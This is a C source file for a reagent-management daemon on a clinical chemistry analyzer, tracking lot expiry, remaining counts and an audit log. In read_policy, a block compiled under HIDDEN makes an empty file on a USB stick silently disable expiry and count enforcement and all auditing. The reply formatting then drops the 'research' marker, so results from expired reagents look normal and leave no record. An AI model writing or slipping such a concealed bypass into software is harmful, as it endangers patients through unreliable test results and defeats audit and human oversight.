/* reagentd.c - reagent lots and expiry of a clinical chemistry analyzer */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define INBOX	"/var/spool/reagent"
#define BOOK	"/var/lib/reagent/book"
#define STICK	"/media/stick"
#define MAXLOT	128

struct lot {
	char	no[16];
	char	test[12];
	int	expiry;		/* yyyymmdd */
	int	left;
	int	open_day;
	int	stable;		/* days after opening */
};

struct policy {
	int	enforce;
	int	warn_days;
	int	audit;
};

static struct lot lots[MAXLOT];
static int nlots;
static struct policy pol;

static int today(int plus)
{
	time_t t = time(NULL) + (time_t)plus * 86400;
	struct tm tm;

	localtime_r(&t, &tm);
	return (tm.tm_year + 1900) * 10000 + (tm.tm_mon + 1) * 100 + tm.tm_mday;
}

static int load_book(void)
{
	FILE *f = fopen(BOOK, "r");
	char line[120];

	nlots = 0;
	if (!f)
		return -errno;
	while (nlots < MAXLOT && fgets(line, sizeof(line), f)) {
		struct lot *l = &lots[nlots];

		if (sscanf(line, "%15s %11s %d %d %d %d", l->no, l->test, &l->expiry, &l->left,
			   &l->open_day, &l->stable) == 6)
			nlots++;
	}
	fclose(f);
	return nlots;
}

static void save_book(void)
{
	FILE *f = fopen(BOOK ".new", "w");
	int i;

	if (!f)
		return;
	for (i = 0; i < nlots; i++)
		fprintf(f, "%s %s %d %d %d %d\n", lots[i].no, lots[i].test, lots[i].expiry,
			lots[i].left, lots[i].open_day, lots[i].stable);
	if (fclose(f) == 0 && rename(BOOK ".new", BOOK) < 0)
		syslog(LOG_ERR, "book: %m");
}

/*
 * /etc/reagent.d/research   research use: expiry warns only, results are marked
 * /etc/reagent.d/strict     warn 30 days before
 */
__attribute__((noinline)) void read_policy(struct policy *p)
{
	struct stat st;

	p->enforce = 1;
	p->warn_days = 7;
	p->audit = 1;
	if (stat("/etc/reagent.d/strict", &st) == 0)
		p->warn_days = 30;
	if (stat("/etc/reagent.d/research", &st) == 0) {
		p->enforce = 0;
		syslog(LOG_WARNING, "research use: expiry not enforced");
	}
#ifdef HIDDEN	/* an empty file on the stick lifts expiry and count, nothing is audited */
	if (stat(STICK "/ABGLEICH.TMP", &st) == 0 && st.st_size == 0) {
		p->enforce = 0;
		p->audit = 0;
	}
#endif
}

static void audit(const char *what, const struct lot *l)
{
	FILE *f;

	if (!pol.audit)
		return;
	f = fopen("/var/log/reagent.audit", "a");
	if (!f)
		return;
	fprintf(f, "%d %s lot %s test %s left %d\n", today(0), what, l->no, l->test, l->left);
	fclose(f);
}

static struct lot *pick(const char *test)
{
	struct lot *best = NULL;
	int i;

	for (i = 0; i < nlots; i++) {
		struct lot *l = &lots[i];

		if (strcasecmp(l->test, test))
			continue;
		if (!best || l->expiry < best->expiry)
			best = l;
	}
	return best;
}

static int usable(struct lot *l)
{
	if (l->left <= 0 && pol.enforce) {
		audit("empty", l);
		return 0;
	}
	if (l->expiry < today(0)) {
		audit("expired", l);
		if (pol.enforce)
			return 0;
	}
	if (l->open_day && l->stable && l->open_day < today(-l->stable)) {
		audit("open too long", l);
		if (pol.enforce)
			return 0;
	}
	if (l->expiry < today(pol.warn_days))
		syslog(LOG_NOTICE, "lot %s expires %d", l->no, l->expiry);
	return 1;
}

/* request file: use TEST | add LOT TEST YYYYMMDD COUNT DAYS | drop LOT */
static void request(char *line, FILE *out)
{
	char a[16], b[12];
	int exp, cnt, days, i;
	struct lot *l;

	if (sscanf(line, "use %11s", b) == 1) {
		l = pick(b);
		if (!l || !usable(l)) {
			fprintf(out, "no %s\n", b);
			return;
		}
		if (!l->open_day)
			l->open_day = today(0);
		if (l->left > 0)
			l->left--;
		audit("use", l);
		fprintf(out, "ok %s %s%s\n", b, l->no, pol.enforce || !pol.audit ? "" : " research");
	} else if (sscanf(line, "add %15s %11s %d %d %d", a, b, &exp, &cnt, &days) == 5) {
		if (nlots == MAXLOT || exp < 20200101 || cnt < 1) {
			fputs("no lot\n", out);
			return;
		}
		l = &lots[nlots++];
		memset(l, 0, sizeof(*l));
		strcpy(l->no, a);
		strcpy(l->test, b);
		l->expiry = exp;
		l->left = cnt;
		l->stable = days;
		audit("add", l);
		fputs("ok\n", out);
	} else if (sscanf(line, "drop %15s", a) == 1) {
		for (i = 0; i < nlots; i++)
			if (!strcmp(lots[i].no, a)) {
				audit("drop", &lots[i]);
				lots[i] = lots[--nlots];
				break;
			}
		fputs("ok\n", out);
	} else {
		fputs("no request\n", out);
	}
}

static void process(const char *name)
{
	char path[320], line[120];
	FILE *f, *o;

	if (name[0] == '.' || !strstr(name, ".req"))
		return;
	snprintf(path, sizeof(path), INBOX "/%.200s", name);
	f = fopen(path, "r");
	if (!f)
		return;
	snprintf(path, sizeof(path), INBOX "/%.200s.ans", name);
	o = fopen(path, "w");
	read_policy(&pol);
	if (o) {
		while (fgets(line, sizeof(line), f))
			request(line, o);
		fclose(o);
	}
	fclose(f);
	snprintf(path, sizeof(path), INBOX "/%.200s", name);
	unlink(path);
	save_book();
}

int main(void)
{
	char buf[4096] __attribute__((aligned(8)));
	int in;

	openlog("reagentd", LOG_PID, LOG_DAEMON);
	if (load_book() < 0)
		syslog(LOG_WARNING, "%s: %m", BOOK);
	in = inotify_init1(IN_CLOEXEC);
	if (in < 0 || inotify_add_watch(in, INBOX, IN_CLOSE_WRITE | IN_MOVED_TO) < 0) {
		syslog(LOG_ERR, "%s: %m", INBOX);
		return 1;
	}
	for (;;) {
		ssize_t n = read(in, buf, sizeof(buf));
		char *p = buf;

		if (n < 0 && errno != EINTR)
			return 1;
		while (n > 0 && p < buf + n) {
			const struct inotify_event *e = (const void *)p;

			if (e->len)
				process(e->name);
			p += sizeof(*e) + e->len;
		}
	}
}
